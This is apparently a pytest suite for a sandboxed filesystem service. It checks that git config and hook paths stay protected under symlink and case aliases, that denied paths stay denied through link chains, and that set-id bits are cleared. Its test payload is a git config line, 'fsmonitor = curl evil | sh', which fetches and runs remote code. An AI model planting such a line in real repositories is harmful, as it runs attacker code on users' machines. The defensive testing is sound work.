"""Variants of issue 10 items 3, 4 and 5: protected paths reached by other names, denied
paths reached by other aliases, set-id bits. Real servers of each backend; every refusal
asserts the code, the reason and that nothing changed."""
from __future__ import annotations

import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import fsgate
import grpc
import pytest
from fsgate import Client, Policy, WriteMode

from ..conftest import ServerProcess, start_server
from ..helpers import snapshot

EVIL = b"[core]\n\tfsmonitor = curl evil | sh\n"
SECRET = "top secret"


def _git(ws: Path, name: str = ".git") -> Path:
    (ws / name / "hooks").mkdir(parents=True)
    (ws / name / "config").write_text("[core]\n")
    return ws / name


def protected(c: Client, path: str, **kw: object) -> None:
    with pytest.raises(fsgate.ProtectedPath) as err:
        c.write_file(path, EVIL, **kw)  # type: ignore[arg-type]  # kw: write_file options
    assert err.value.code is grpc.StatusCode.PERMISSION_DENIED
    assert err.value.reason == "PROTECTED_PATH"


def refused(c: Client, path: str, **kw: object) -> str:
    """Any PERMISSION_DENIED (protected, denied or outside): the reason."""
    with pytest.raises(fsgate.PermissionDenied) as err:
        c.write_file(path, EVIL, **kw)  # type: ignore[arg-type]  # kw: write_file options
    assert err.value.code is grpc.StatusCode.PERMISSION_DENIED
    assert err.value.reason in ("PROTECTED_PATH", "SANDBOX_DENIED", "OUTSIDE_POLICY")
    return str(err.value.reason)


def denied(call: Callable[[], object]) -> None:
    """SANDBOX_DENIED (the helper judged the target), or OUTSIDE_POLICY when the name
    itself is denied (the server's lexical pre-check)."""
    with pytest.raises(fsgate.PermissionDenied) as err:
        call()
    assert err.value.code is grpc.StatusCode.PERMISSION_DENIED
    assert err.value.reason in ("SANDBOX_DENIED", "OUTSIDE_POLICY")
    assert SECRET not in str(err.value)


# --- item 3 variants: protected paths by every other name --------------------------------

def test_dot_git_that_is_a_symlink_elsewhere_in_the_root_keeps_config_and_hooks_protected(
        client: Client, ws: Path) -> None:
    """``.git -> gitdir`` (git follows it, as `repo` and some tools set it up): the git
    config is ``gitdir/config`` in fact, and a link whose text is ``.git/config`` reaches it
    through the name ``.git``. Every name that resolution passes through counts."""
    gitdir = _git(ws, "gitdir")
    (ws / ".git").symlink_to("gitdir")
    (ws / "cfg").symlink_to(".git/config")
    (ws / "hook").symlink_to(".git/hooks/pre-commit")  # dangling: would create the hook
    (ws / "abs-hook").symlink_to(ws / ".git" / "hooks" / "post-checkout")
    (ws / "g").symlink_to(".git")
    before = snapshot(ws)
    protected(client, str(ws / ".git" / "config"))
    protected(client, str(ws / ".git" / "hooks" / "pre-commit"))
    protected(client, str(ws / "cfg"))
    protected(client, str(ws / "hook"))
    protected(client, str(ws / "abs-hook"))
    protected(client, str(ws / "g" / "config"))
    protected(client, str(ws / "g" / "hooks" / "x"), create_parents=True)
    assert snapshot(ws) == before
    assert (gitdir / "config").read_text() == "[core]\n"
    assert client.read_file(str(ws / "cfg")) == b"[core]\n"  # still readable


def test_links_whose_target_is_a_hook_are_protected_by_every_spelling(
        client: Client, ws: Path) -> None:
    git = _git(ws)
    (ws / "sub").mkdir()
    (ws / "sub" / "rel").symlink_to("../.git/hooks/pre-push")
    (ws / "abs").symlink_to(git / "hooks" / "pre-commit")
    (ws / "dots").symlink_to("sub/../.git/./hooks//x")
    (ws / "chain1").symlink_to("chain2")
    (ws / "chain2").symlink_to("sub/rel")
    (ws / "hooksdir").symlink_to(".git/hooks")
    (ws / ".GIT" / "HOOKS").mkdir(parents=True)  # what a case-insensitive fs would show
    (ws / "upper").symlink_to(".GIT/HOOKS/pre-commit")
    before = snapshot(ws)
    for name in ("sub/rel", "abs", "dots", "chain1", "chain2", "upper"):
        protected(client, str(ws / name))
        protected(client, str(ws / name), mode=WriteMode.CREATE_NEW)
    protected(client, str(ws / "hooksdir" / "pre-commit"))
    protected(client, str(ws / "hooksdir" / "new" / "deep"), create_parents=True)
    assert snapshot(ws) == before


def test_create_parents_never_creates_dot_git_hooks(client: Client, ws: Path) -> None:
    (ws / ".git").mkdir()  # a repository whose hooks directory is missing
    (ws / "gl").symlink_to(".git")
    (ws / "fresh").mkdir()
    before = snapshot(ws)
    protected(client, str(ws / ".git" / "hooks" / "pre-commit"), create_parents=True)
    protected(client, str(ws / "gl" / "hooks" / "pre-commit"), create_parents=True)
    protected(client, str(ws / "fresh" / ".git" / "hooks" / "x"), create_parents=True)
    protected(client, str(ws / "fresh" / ".git" / "config"), create_parents=True)
    protected(client, str(ws / ".Git" / "Hooks" / "x"), create_parents=True)
    assert snapshot(ws) == before


@pytest.mark.parametrize("rel", [".git/HOOKS/pre-commit", ".GIT/hooks/pre-commit",
                                 ".Git/Config", ".git/hooks/../CONFIG", ".git/HoOkS"])
def test_case_variants_of_protected_paths_are_protected(client: Client, ws: Path,
                                                        rel: str) -> None:
    _git(ws)
    (ws / ".GIT" / "HOOKS").mkdir(parents=True)  # real on a case-sensitive fs
    before = snapshot(ws)
    protected(client, str(ws / rel), create_parents=True)
    assert snapshot(ws) == before


@pytest.mark.parametrize("writable", ["{ws}/.git/hooks/..", "{ws}/.git/./", "{ws}//.git",
                                      "{ws}/x/../.git/hooks"])
def test_writable_root_spelled_oddly_inside_dot_git_cannot_write_protected_paths(
        served: ServerProcess, ws: Path, writable: str) -> None:
    _git(ws)
    before = snapshot(ws)
    with Client(served.target, policy=Policy(writable_roots=[writable.format(ws=ws)])) as c:
        protected(c, str(ws / ".git" / "hooks" / "pre-commit"))
        protected(c, str(ws / ".git" / "hooks" / "a" / "b"), create_parents=True)
        if "hooks" not in writable.replace("hooks/..", ""):
            protected(c, str(ws / ".git" / "config"))
    assert snapshot(ws) == before


def test_denied_and_protected_together_never_write(served: ServerProcess, ws: Path) -> None:
    git = _git(ws)
    (ws / "cfg").symlink_to(".git/config")
    before = snapshot(ws)
    for policy in (Policy(writable_roots=[str(ws)], denied_paths=[str(git / "config")]),
                   Policy(writable_roots=[str(git)], denied_paths=[str(git / "hooks")]),
                   Policy(writable_roots=[str(ws)], denied_paths=[str(ws / "cfg")]),
                   Policy(writable_roots=["."], denied_paths=["hooks"], cwd=str(git))):
        with Client(served.target, policy=policy) as c:
            for path in (git / "config", git / "hooks" / "pre-commit", ws / "cfg"):
                refused(c, str(path))
                refused(c, str(path), create_parents=True)
    assert snapshot(ws) == before


def test_second_server_root_nested_in_the_first_is_protected_below_both(
        tmp_path: Path, backend: str) -> None:
    """``--root W:ro --root W/.git:rw`` (or ``W/.git/hooks:rw``): the globs are matched
    below W too, so the writable nested root does not make config or hooks writable."""
    top = tmp_path / "w"
    top.mkdir()
    git = _git(top)
    (git / "description").write_text("d\n")
    run = tmp_path / "run"
    run.mkdir()
    server = start_server(run, [f"{top}:ro", f"{git}:rw", f"{git / 'hooks'}:rw"], backend)
    try:
        before = snapshot(top)
        with Client(server.target) as c:
            protected(c, str(git / "config"))
            protected(c, str(git / "hooks" / "pre-commit"))
            protected(c, str(git / "hooks" / "x" / "y"), create_parents=True)
            with Client(server.target, policy=Policy(writable_roots=["."], cwd=str(git))) as c2:
                protected(c2, "config")
                protected(c2, "hooks/post-merge")
        assert snapshot(top) == before
        with Client(server.target) as c:
            c.write_file(str(git / "description"), b"mine\n")  # the rest stays writable
        assert (git / "description").read_text() == "mine\n"
    finally:
        server.stop()


# --- item 4 variants: denied paths by every alias ----------------------------------------

def _private(ws: Path) -> None:
    (ws / "private").mkdir()
    (ws / "private" / "secret.txt").write_text(SECRET)
    (ws / "open.txt").write_text("fine")


def _all_denied(c: Client, d: Path) -> None:
    denied(lambda: c.read_file(str(d / "secret.txt")))
    denied(lambda: list(c.list_dir(str(d))))
    denied(lambda: c.stat(str(d / "secret.txt")))
    denied(lambda: c.stat(str(d), follow_symlinks=True))
    denied(lambda: c.write_file(str(d / "secret.txt"), b"x"))
    denied(lambda: c.write_file(str(d / "n" / "m"), b"x", create_parents=True))


def test_relative_denied_entry_with_cwd_denies_every_alias(served: ServerProcess,
                                                           ws: Path) -> None:
    _private(ws)
    (ws / "alias").symlink_to("private")
    (ws / "alias2").symlink_to(ws / "alias")
    policy = Policy(writable_roots=["."], denied_paths=["alias"], cwd=str(ws))
    before = snapshot(ws)
    with Client(served.target, policy=policy) as c:
        for via in ("private", "alias2", "./x/../private"):
            _all_denied(c, ws / via)
        names = {e.name for e in c.list_dir(str(ws), depth=3)}
        assert not any(n.startswith("private") for n in names), names
        assert c.read_file("open.txt") == b"fine"
    assert snapshot(ws) == before


def test_relative_denied_entry_against_a_cwd_that_is_a_link(served: ServerProcess,
                                                            ws: Path) -> None:
    (ws / "real").mkdir()
    _private(ws / "real")
    (ws / "cwdlink").symlink_to("real")
    policy = Policy(writable_roots=[str(ws)], denied_paths=["private"], cwd=str(ws / "cwdlink"))
    before = snapshot(ws)
    with Client(served.target, policy=policy) as c:
        _all_denied(c, ws / "real" / "private")
        _all_denied(c, ws / "cwdlink" / "private")
    assert snapshot(ws) == before


@pytest.mark.parametrize("denied_name", ["alias", "alias2", "alias3"])
def test_denied_link_anywhere_in_a_chain_denies_its_final_target(
        served: ServerProcess, ws: Path, denied_name: str) -> None:
    _private(ws)
    (ws / "alias").symlink_to("private")
    (ws / "alias2").symlink_to("alias")
    (ws / "alias3").symlink_to(ws / "alias2")
    (ws / "other").symlink_to("./private/")
    before = snapshot(ws)
    with Client(served.target, policy=Policy(writable_roots=[str(ws)],
                                             denied_paths=[str(ws / denied_name)])) as c:
        for via in ("private", "alias", "alias2", "alias3", "other"):
            _all_denied(c, ws / via)
        assert c.read_file(str(ws / "open.txt")) == b"fine"
    assert snapshot(ws) == before


def test_denied_dir_whose_parent_is_a_chain_of_links(served: ServerProcess, ws: Path) -> None:
    (ws / "store" / "real").mkdir(parents=True)
    _private(ws / "store" / "real")
    (ws / "p1").symlink_to("p2")
    (ws / "p2").symlink_to(ws / "store" / "real")
    (ws / "p3").symlink_to("store/./real/")
    before = snapshot(ws)
    with Client(served.target, policy=Policy(writable_roots=[str(ws)],
                                             denied_paths=[str(ws / "p1" / "private")])) as c:
        for via in ("p1", "p2", "p3", "store/real"):
            _all_denied(c, ws / via / "private")
        names = {e.name for e in c.list_dir(str(ws / "store"), depth=3)}
        assert names == {"real", "real/open.txt"}, names
    assert snapshot(ws) == before


def test_denied_link_is_judged_by_its_target_at_each_request(served: ServerProcess,
                                                             ws: Path) -> None:
    """A denied entry whose link target changes between requests denies the new target
    from the next request on, and frees the old one."""
    for d in ("a", "b"):
        (ws / d).mkdir()
        (ws / d / "secret.txt").write_text(SECRET)
    (ws / "alias").symlink_to("a")
    policy = Policy(writable_roots=[str(ws)], denied_paths=[str(ws / "alias")])
    with Client(served.target, policy=policy) as c:
        _all_denied(c, ws / "a")
        assert c.read_file(str(ws / "b" / "secret.txt")) == SECRET.encode()
        os.unlink(ws / "alias")
        (ws / "alias").symlink_to("b")
        _all_denied(c, ws / "b")
        assert c.read_file(str(ws / "a" / "secret.txt")) == SECRET.encode()


def test_denied_link_into_the_read_only_root_denies_its_target_there(
        served: ServerProcess, ws: Path) -> None:
    ro = served.root.parent / "ro"
    (ws / "rolink").symlink_to(ro)
    with Client(served.target, policy=Policy(writable_roots=[str(ws)],
                                             denied_paths=[str(ws / "rolink")])) as c:
        denied(lambda: c.read_file(str(ro / "readme.txt")))
        denied(lambda: list(c.list_dir(str(ro))))
        denied(lambda: c.stat(str(ro / "readme.txt")))


def test_denied_link_whose_target_passes_outside_and_back_still_denies_its_target(
        served: ServerProcess, ws: Path) -> None:
    """``alias -> ../../outside/../ws/W/private``: the kernel lands in ``private``. What is
    denied may not be decided by looking outside (that would be an oracle), but the target
    spelled lexically is still denied, so ``alias2 -> private`` does not read it."""
    _private(ws)
    (ws / "alias").symlink_to(f"../../outside/../ws/{ws.name}/private")
    (ws / "alias2").symlink_to("private")
    before = snapshot(ws)
    with Client(served.target, policy=Policy(writable_roots=[str(ws)],
                                             denied_paths=[str(ws / "alias")])) as c:
        for via in ("alias", "alias2", "private"):
            _all_denied(c, ws / via)
    assert snapshot(ws) == before


def test_denied_dangling_link_denies_a_tree_create_parents_would_make(
        served: ServerProcess, ws: Path) -> None:
    (ws / "later").symlink_to("made-later")
    with Client(served.target, policy=Policy(writable_roots=[str(ws)],
                                             denied_paths=[str(ws / "later")])) as c:
        denied(lambda: c.write_file(str(ws / "made-later" / "a" / "b"), b"x",
                                    create_parents=True))
        assert not (ws / "made-later").exists()


def test_denied_file_through_a_link_to_it(served: ServerProcess, ws: Path) -> None:
    (ws / "secret.txt").write_text(SECRET)
    (ws / "flink").symlink_to("secret.txt")
    before = snapshot(ws)
    with Client(served.target, policy=Policy(writable_roots=[str(ws)],
                                             denied_paths=[str(ws / "flink")])) as c:
        denied(lambda: c.read_file(str(ws / "secret.txt")))
        denied(lambda: c.stat(str(ws / "secret.txt")))
        denied(lambda: c.write_file(str(ws / "secret.txt"), b"x"))
        assert [e.name for e in c.list_dir(str(ws))] == []
    assert snapshot(ws) == before


# --- a root served through a symlink, narrowed by a request ------------------------------

def test_request_narrowed_below_a_root_served_through_a_symlink_can_use_it(
        tmp_path: Path, backend: str) -> None:
    """``--root /link-ws`` (-> /real-ws) and a request ``readable_roots: [/link-ws/sub]``:
    the helper's descriptors report /real-ws/sub, which must count as the same subtree."""
    real = tmp_path / "real-ws"
    (real / "sub").mkdir(parents=True)
    (real / "sub" / "f.txt").write_text("fine")
    link = tmp_path / "link-ws"
    link.symlink_to(real)
    run = tmp_path / "run"
    run.mkdir()
    server = start_server(run, [str(link)], backend)
    try:
        with Client(server.target, policy=Policy(readable_roots=[str(link / "sub")])) as c:
            assert c.read_file(str(link / "sub" / "f.txt")) == b"fine"
        with Client(server.target, policy=Policy(writable_roots=[str(link / "sub")])) as c:
            c.write_file(str(link / "sub" / "g.txt"), b"new")
        assert (real / "sub" / "g.txt").read_bytes() == b"new"
    finally:
        server.stop()


# --- item 5 variants: set-id and sticky bits ---------------------------------------------

@pytest.mark.parametrize("bits", [0o4755, 0o2755, 0o1755, 0o6777, 0o7000, 0o10644])
def test_file_mode_with_bits_outside_0777_is_invalid_and_creates_nothing(
        client: Client, ws: Path, bits: int) -> None:
    (ws / "old").write_text("old")
    before = snapshot(ws)
    for name in ("new", "old"):
        with pytest.raises(fsgate.InvalidRequest) as err:
            client.write_file(str(ws / name), b"x", file_mode=bits)
        assert err.value.code is grpc.StatusCode.INVALID_ARGUMENT
        assert err.value.reason == "INVALID_REQUEST"
    assert snapshot(ws) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="a set-id file of another user needs root")
@pytest.mark.parametrize("old_mode", [0o4755, 0o2711, 0o1777, 0o7777, 0o6700])
def test_replacing_a_set_id_or_sticky_file_by_any_route_clears_the_bits(
        client: Client, ws: Path, old_mode: int) -> None:
    (ws / "d").mkdir()
    target = ws / "d" / "tool"
    target.write_bytes(b"#!/bin/sh\n")
    os.chown(target, 1234, 1234)
    os.chmod(target, old_mode)
    (ws / "via").symlink_to("d/tool")
    version = client.stat(str(target)).version
    cases: tuple[tuple[Path, dict[str, Any]], ...] = (
        (ws / "via", {}), (target, {"if_version": version}), (target, {"file_mode": 0o755}))
    for path, kw in cases:
        if "if_version" in kw:
            kw["if_version"] = client.stat(str(target)).version
        info = client.write_file(str(path), b"#!/bin/sh\nid\n", **kw).info
        st = target.lstat()
        assert not st.st_mode & 0o7000, oct(st.st_mode)
        assert not info.mode & 0o7000
        assert stat.S_IMODE(st.st_mode) == (kw.get("file_mode") or old_mode & 0o777)
        assert target.read_bytes() == b"#!/bin/sh\nid\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="a set-id file of another user needs root")
def test_new_file_in_a_setgid_directory_is_not_setgid(client: Client, ws: Path) -> None:
    """The directory's group is inherited (POSIX), its setgid bit never lands on a file."""
    d = ws / "shared"
    d.mkdir()
    os.chown(d, 0, 4321)
    os.chmod(d, 0o2777)
    cases: tuple[tuple[str, dict[str, Any]], ...] = (
        ("a", {}), ("b", {"file_mode": 0o775}), ("c", {"mode": WriteMode.CREATE_NEW}))
    for name, kw in cases:
        client.write_file(str(d / name), b"x", **kw)
        st = (d / name).lstat()
        assert not st.st_mode & 0o7000, (name, oct(st.st_mode))
